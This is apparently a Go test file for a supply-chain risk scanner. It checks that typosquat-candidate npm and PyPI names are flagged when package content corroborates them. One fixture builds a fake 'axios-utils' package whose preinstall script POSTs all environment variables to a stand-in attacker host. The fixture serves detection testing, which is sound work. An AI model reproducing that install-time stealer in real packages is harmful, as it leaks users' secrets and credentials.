package risk

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chaingate/chaingate/internal/contentdata"
	"github.com/chaingate/chaingate/risk/content"
	"github.com/chaingate/chaingate/risk/signal"
	"github.com/chaingate/chaingate/risk/vulndb"
	"github.com/chaingate/chaingate/sbom"
)

// TestCoEvidence checks that a name the typosquat model leaves below its
// threshold (a candidate) is flagged in Report.SignalRisk once package
// content corroborates it, and not on its own nor with the content of a
// real benign native-module package.
func TestCoEvidence(t *testing.T) {
	const (
		candidate = "pkg:npm/axios-utils@1.0.0"         // affix on axios, scored below the threshold
		strong    = "pkg:pypi/numpy-lib@0.1"            // just below the threshold, above signal.RiskThreshold
		benign    = "pkg:npm/rxjs-mergemap-array@1.0.0" // a real, benign combination of rxjs (a candidate) with a real native builder's content
		plain     = "pkg:npm/left-pad@1.3.0"            // no name signal at all
		flagged   = "pkg:npm/crossenv@1.0.0"            // flagged by the model on its own
	)
	doc := &sbom.Document{Components: []sbom.Component{
		{ID: "a", Name: "axios-utils", Version: "1.0.0", PURL: candidate},
		{ID: "b", Name: "numpy-lib", Version: "0.1", PURL: strong},
		{ID: "c", Name: "rxjs-mergemap-array", Version: "1.0.0", PURL: benign},
		{ID: "d", Name: "left-pad", Version: "1.3.0", PURL: plain},
		{ID: "e", Name: "crossenv", Version: "1.0.0", PURL: flagged},
	}}
	for _, purl := range []string{candidate, strong, benign} {
		s, err := signal.TyposquatScore(map[bool]string{true: "npm", false: "PyPI"}[strings.HasPrefix(purl, "pkg:npm")], purlName(purl))
		if err != nil {
			t.Fatal(err)
		}
		if s.Flagged || s.Value < signal.DefaultTyposquatCandidate {
			t.Fatalf("%s: want an unflagged candidate, got %.3f flagged=%v", purl, s.Value, s.Flagged)
		}
	}

	// Content: a constructed stealer attributed to the candidate, the real
	// bufferutil (node-gyp-build) attributed to the benign candidate.
	evil, err := content.ScanPackageArchive(context.Background(), "axios-utils-1.0.0.tgz", bytes.NewReader(testTarGz(t, map[string]string{
		"package/package.json": `{"name":"axios-utils","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
		"package/setup.js":     "const https = require('https');\nconst req = https.request({hostname: 'collector.attacker.test', method: 'POST'});\nreq.write(JSON.stringify(process.env)); req.end();\n",
	})))
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join("testdata", "signals", "npm", "bufferutil-4.0.9.tgz"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	native, err := content.ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
	if err != nil {
		t.Fatal(err)
	}
	static := append(evil.SignalsFor(candidate), native.SignalsFor(benign)...)
	db := &vulndb.DB{}
	rep, err := Scan(context.Background(), doc, db, WithDetectors(signal.TyposquatDetector{}, signal.Static(static)))
	if err != nil {
		t.Fatal(err)
	}
	risks := map[string]signal.SourceRisk{}
	for _, r := range rep.SignalRisk {
		risks[r.Source] = r
	}
	if r := risks[candidate]; !r.Score.Flagged || !slices.Contains(r.Signals, "typosquat") || !slices.Contains(r.Signals, "env-exfiltration") {
		t.Errorf("corroborated candidate not flagged: %+v", r)
	}
	if r := risks[strong]; r.Score.Flagged || r.Score.Value < signal.RiskThreshold ||
		!strings.Contains(strings.Join(r.Score.Evidence, "\n"), "needs another signal") {
		t.Errorf("a lone candidate must not flag, and say why: %+v", r)
	}
	if r := risks[benign]; r.Score.Flagged || !slices.Contains(r.Signals, "install-script") {
		t.Errorf("candidate with a benign native builder's content flagged: %+v", r)
	}
	if _, ok := risks[plain]; ok {
		t.Errorf("left-pad has no signals but got %+v", risks[plain])
	}
	if r := risks[flagged]; !r.Score.Flagged {
		t.Errorf("a flagged name alone must flag: %+v", r)
	}
	// The content evidence says where in the package it was seen.
	for _, s := range rep.Signals {
		if s.Source == candidate && s.ID == "env-exfiltration" && !strings.Contains(s.Evidence[0], "axios-utils-1.0.0.tgz") {
			t.Errorf("evidence %v does not name the package file", s.Evidence)
		}
	}
	// The Markdown and SARIF outputs carry the combination.
	var md, sf strings.Builder
	if err := rep.WriteMarkdown(&md, MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), "| "+candidate+" | env-exfiltration, install-network, install-script, typosquat |") ||
		!strings.Contains(md.String(), "**yes**") {
		t.Errorf("markdown:\n%s", md.String())
	}
	if err := rep.WriteSARIF(&sf); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Runs []struct {
			Results []struct {
				RuleID    string `json:"ruleId"`
				Level     string `json:"level"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct {
							URI string `json:"uri"`
						} `json:"artifactLocation"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal([]byte(sf.String()), &log); err != nil {
		t.Fatal(err)
	}
	levels := map[string]string{}
	for _, res := range log.Runs[0].Results {
		if res.RuleID == "chaingate/signal/typosquat" {
			levels[res.Locations[0].PhysicalLocation.ArtifactLocation.URI] = res.Level
		}
	}
	if levels[candidate] != "error" || levels[strong] != "warning" || levels[flagged] != "error" {
		t.Errorf("SARIF typosquat levels %v", levels)
	}
	// Highest combined risk first.
	for i := 1; i < len(rep.SignalRisk); i++ {
		if rep.SignalRisk[i].Score.Value > rep.SignalRisk[i-1].Score.Value {
			t.Errorf("SignalRisk not sorted: %+v", rep.SignalRisk)
		}
	}
}

func purlName(purl string) string {
	s := purl[strings.IndexByte(purl, '/')+1:]
	return s[:strings.IndexByte(s, '@')]
}

// testTarGz packs files into a gzip-compressed tar, as npm packs a package.
func testTarGz(t testing.TB, files map[string]string) []byte {
	t.Helper()
	m := make(map[string][]byte, len(files))
	for name, body := range files {
		m[name] = []byte(body)
	}
	b, err := contentdata.TarGz(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
